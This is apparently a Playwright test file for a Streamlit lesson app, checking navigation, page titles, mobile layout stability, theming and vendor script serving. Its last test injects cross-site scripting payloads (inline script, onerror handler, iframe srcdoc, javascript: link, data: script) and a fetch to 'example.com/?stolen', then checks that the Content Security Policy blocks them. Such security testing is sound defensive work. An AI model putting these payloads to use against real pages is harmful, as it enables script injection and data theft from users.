"""The way in: every lesson opens, by a click and by its address, in every dress."""

import re

import pytest
from playwright.sync_api import Page, expect

from metl_ui.contents import HOME, LESSONS, Lesson
from tests.browser.fitting import expect_to_stay, watch_shifts
from tools.server import IDLE

BY_PATH = {lesson.path: lesson for lesson in LESSONS}


def expect_open(page: Page, lesson: Lesson) -> None:
    """The lesson is on screen: its address, its tab and its frame, and nothing fell over."""
    expect(page).to_have_url(re.compile(rf"^http://[^/]+/{lesson.path}(\?.*)?$"))
    expect(page).to_have_title("METL" if lesson is HOME else f"{lesson.title} · METL")
    expect(page.get_by_role("heading", level=1)).to_have_text(lesson.title)
    expect(page.get_by_test_id("stSidebarNavLink")).to_have_count(1 + len(LESSONS))
    expect(page.locator('[data-testid="stSidebarNavLink"][aria-current="page"]')).to_have_text(
        lesson.title
    )
    expect(page.get_by_test_id("stException")).to_have_count(0)
    expect(page.get_by_role("dialog")).to_have_count(0)  # "Page not found" is one


# What goes wrong on a first visit goes wrong on all pages but the home page alike.
@pytest.mark.parametrize("lesson", [HOME, BY_PATH["gradient-check"]], ids=lambda one: one.title)
def test_an_address_opens_its_page_as_the_very_first_visit(lesson, fresh_server, page, open_lesson):
    open_lesson(page, lesson.path, fresh_server.url)
    expect_open(page, lesson)


def test_the_navigation_opens_each_lesson_and_leads_home(page, open_lesson):
    open_lesson(page)
    navigation = page.get_by_role("navigation", name="App pages")
    for lesson in (*LESSONS, HOME):
        navigation.get_by_role("link", name=lesson.title, exact=True).click()
        expect_open(page, lesson)


def test_each_lesson_leads_to_the_next_and_the_last_to_none(page, open_lesson):
    open_lesson(page, LESSONS[0].path)
    for following in LESSONS[1:]:
        page.get_by_role("link", name=f"Next: {following.title}.").click()
        expect_open(page, following)
    page.wait_for_selector(IDLE)
    expect(page.get_by_role("link", name="Next: ")).to_have_count(0)


def test_back_and_forward_walk_the_lessons(page, open_lesson):
    first, second = LESSONS[:2]
    open_lesson(page, first.path)
    page.get_by_test_id("stSidebarNavLink").get_by_text(second.title, exact=True).click()
    expect_open(page, second)
    page.go_back()
    expect_open(page, first)
    page.go_forward()
    expect_open(page, second)


@pytest.mark.parametrize("lesson", (HOME, *LESSONS), ids=lambda one: one.path or "home")
def test_a_page_opens_on_a_phone_without_a_jump(lesson, new_page, open_lesson):
    page = new_page(width=390, height=844, scheme="dark")
    watch_shifts(page)
    open_lesson(page, lesson.path)
    expect_to_stay(page)


def test_the_menu_lets_the_reader_choose_light_or_dark(page, open_lesson):
    open_lesson(page)
    page.get_by_test_id("stMainMenu").get_by_role("button").click()
    page.get_by_role("menuitemradio", name="Dark").click()
    expect(page.get_by_test_id("stApp")).to_have_css("background-color", "rgb(16, 21, 28)")
    expect(page.get_by_text("Deploy")).to_have_count(0)


def test_an_unknown_address_says_so_and_shows_the_home_page(browser, server):
    page = browser.new_page()  # not `page`: here the browser's console does report the miss
    page.goto(f"{server.url}/nonsense")
    expect(page.get_by_role("dialog")).to_contain_text("Page not found")
    expect(page.locator("h1")).to_have_count(1)
    page.close()


def test_plotly_js_is_served_beside_the_pages_and_nothing_else_of_its_package(page, server):
    script = page.request.get(f"{server.url}/vendor/plotly.min.js")
    assert script.headers["content-type"].startswith("text/javascript")
    assert b"plotly.js" in script.body()[:200]
    for path in ("", "widgetbundle.js", "templates/plotly.json"):
        other = page.request.get(f"{server.url}/vendor/{path}")
        assert "text/html" in other.headers["content-type"]  # the app's own page, as anywhere


def test_what_somebody_slips_into_a_page_does_not_run(browser, server):
    page = browser.new_page()  # not `page`: here the browser's console does report the attempts
    page.goto(f"{server.url}/softmax")
    page.wait_for_selector(IDLE)
    page.evaluate(
        """() => {
            window.ran = [];
            const stopped = new Set();
            const tell = document.body.appendChild(document.createElement("p"));
            tell.dataset.testid = "told";
            document.addEventListener("securitypolicyviolation", (violation) => {
                stopped.add(`${violation.effectiveDirective} ${violation.blockedURI}`);
                tell.textContent = [...stopped].join();
            });
            const script = document.createElement("script");
            script.textContent = "window.ran.push('script')";
            document.body.append(script);
            const box = document.createElement("div");
            box.innerHTML = `<img src="x:" onerror="ran.push('handler')"><iframe srcdoc="
                <script>parent.ran.push('frame')</script>"></iframe>
                <a href="javascript:ran.push('address')">away</a>`;
            document.body.append(box);
            box.querySelector("a").click();
            for (const url of ["https://example.com/a.js", "data:text/javascript,ran.push('data')"])
                document.body.append(Object.assign(document.createElement("script"), { src: url }));
            window.sent = fetch("https://example.com/?stolen").then(() => "sent", () => "stopped");
        }"""
    )
    told = page.get_by_test_id("told")
    for stopped in (
        *("script-src-elem inline", "script-src-attr inline"),
        *("script-src-elem https://example.com", "script-src-elem data", "connect-src https://"),
    ):
        expect(told).to_contain_text(stopped)
    assert page.evaluate("window.ran") == []
    assert page.evaluate("window.sent") == "stopped"
    page.close()
